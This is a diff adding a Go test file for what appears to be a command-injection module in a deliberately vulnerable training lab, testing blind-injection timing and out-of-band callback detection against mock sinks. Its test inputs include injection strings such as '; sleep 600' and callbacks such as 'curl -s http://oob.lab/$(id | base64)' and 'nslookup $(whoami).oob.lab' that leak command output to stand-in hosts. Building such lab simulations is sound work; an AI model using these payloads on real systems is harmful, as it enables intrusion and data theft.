@@ -0,0 +1,168 @@
+package modules
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+// MockCommandSink records executed commands and returns canned output
+type MockCommandSink struct {
+	Outputs  map[string]string
+	Executed []string
+}
+
+func (m *MockCommandSink) Execute(command string) (string, error) {
+	m.Executed = append(m.Executed, command)
+	return m.Outputs[command], nil
+}
+
+func TestBlindCommandDelay(t *testing.T) {
+	tests := []struct {
+		command string
+		want    time.Duration
+	}{
+		{"ping -c 1 127.0.0.1", 0},
+		{"127.0.0.1; sleep 2", 2 * time.Second},
+		{"x && sleep 0.5", 500 * time.Millisecond},
+		{"127.0.0.1 | ping -c 4 127.0.0.1", 3 * time.Second},
+		{"ping -n 3 localhost & sleep 1", 3 * time.Second},
+		{"; sleep 600", 10 * time.Second},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			if got := blindCommandDelay(tt.command, 10*time.Second); got != tt.want {
+				t.Errorf("blindCommandDelay() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFindBlindCallbacks(t *testing.T) {
+	callbacks := findBlindCallbacks("x; curl -s http://oob.lab/$(id | base64) && nslookup `whoami`.oob.lab; echo done")
+	if len(callbacks) != 2 {
+		t.Fatalf("expected 2 callbacks, got %d: %+v", len(callbacks), callbacks)
+	}
+
+	if callbacks[0].Tool != "curl" || callbacks[0].Target != "http://oob.lab/$(id | base64)" {
+		t.Errorf("unexpected curl callback: %+v", callbacks[0])
+	}
+	if callbacks[0].Segment != "curl -s http://oob.lab/$(id | base64) " {
+		t.Errorf("segment should include the nested pipe, got %q", callbacks[0].Segment)
+	}
+	if callbacks[1].Tool != "nslookup" || callbacks[1].Target != "`whoami`.oob.lab" {
+		t.Errorf("unexpected nslookup callback: %+v", callbacks[1])
+	}
+}
+
+func TestCommandInjectionBlind(t *testing.T) {
+	m := &CommandInjection{}
+	cmd := &MockCommandSink{Outputs: map[string]string{
+		"ping -c 1 ; :": "PING output",
+		"whoami":        "www-data\n",
+	}}
+	http := &MockHTTPSink{Pages: map[string]string{
+		"http://www-data.oob.lab/": "ok",
+	}}
+
+	ctx := &HandlerContext{
+		Input: "; nslookup $(whoami).oob.lab",
+		Config: map[string]interface{}{
+			"variant":           "blind",
+			"base_command":      "ping -c 1 {input}",
+			"oob_hosts":         []interface{}{"oob.lab"},
+			"show_interactions": true,
+		},
+		Sinks: &SinkContext{Command: cmd, HTTP: http},
+	}
+
+	result, err := m.Handle(ctx)
+	if err != nil {
+		t.Fatalf("Handle() error = %v", err)
+	}
+
+	data := result.Data.(map[string]interface{})
+	if _, ok := data["output"]; ok {
+		t.Error("blind variant must not return command output")
+	}
+
+	if len(http.Fetched) != 1 || http.Fetched[0] != "http://www-data.oob.lab/" {
+		t.Errorf("expected DNS-style callback with expanded substitution, got %v", http.Fetched)
+	}
+	if interactions, ok := data["oob_interactions"].([]OOBInteraction); !ok || len(interactions) != 1 {
+		t.Errorf("expected one reported interaction, got %v", data["oob_interactions"])
+	}
+
+	for _, executed := range cmd.Executed {
+		if strings.Contains(executed, "nslookup") {
+			t.Errorf("callback should be delivered by the lab, not executed: %q", executed)
+		}
+	}
+}
+
+func TestCommandInjectionBlindIgnoresOtherHosts(t *testing.T) {
+	m := &CommandInjection{}
+	http := &MockHTTPSink{Pages: map[string]string{}}
+
+	ctx := &HandlerContext{
+		Input: "x; curl http://internal.example/",
+		Config: map[string]interface{}{
+			"variant":   "blind",
+			"oob_hosts": []interface{}{"oob.lab"},
+		},
+		Sinks: &SinkContext{Command: &MockCommandSink{}, HTTP: http},
+	}
+
+	if _, err := m.Handle(ctx); err != nil {
+		t.Fatalf("Handle() error = %v", err)
+	}
+	if len(http.Fetched) != 0 {
+		t.Errorf("expected no callbacks outside oob_hosts, got %v", http.Fetched)
+	}
+}
+
+// MockOOBSink records lookups under a callback domain
+type MockOOBSink struct {
+	Domain  string
+	Lookups []string
+}
+
+func (m *MockOOBSink) Hosts() []string {
+	return []string{m.Domain}
+}
+
+func (m *MockOOBSink) Lookup(name string) bool {
+	if !strings.HasSuffix(name, "."+m.Domain) {
+		return false
+	}
+	m.Lookups = append(m.Lookups, name)
+	return true
+}
+
+func TestCommandInjectionBlindBuiltinListener(t *testing.T) {
+	m := &CommandInjection{}
+	cmd := &MockCommandSink{Outputs: map[string]string{"whoami": "www-data\n"}}
+	http := &MockHTTPSink{Pages: map[string]string{}}
+	oob := &MockOOBSink{Domain: "oob.flawfactory.local"}
+
+	ctx := &HandlerContext{
+		Input: "x; nslookup $(whoami).abc123.oob.flawfactory.local; curl http://abc123.oob.flawfactory.local/c",
+		Config: map[string]interface{}{
+			"variant": "blind",
+		},
+		Sinks: &SinkContext{Command: cmd, HTTP: http, OOB: oob},
+	}
+
+	if _, err := m.Handle(ctx); err != nil {
+		t.Fatalf("Handle() error = %v", err)
+	}
+
+	// No oob_hosts needed - the listener's domain is always a callback target
+	if len(oob.Lookups) != 1 || oob.Lookups[0] != "www-data.abc123.oob.flawfactory.local" {
+		t.Errorf("expected DNS lookup recorded by the listener, got %v", oob.Lookups)
+	}
+	if len(http.Fetched) != 1 || http.Fetched[0] != "http://abc123.oob.flawfactory.local/c" {
+		t.Errorf("expected HTTP callback through the HTTP sink, got %v", http.Fetched)
+	}
+}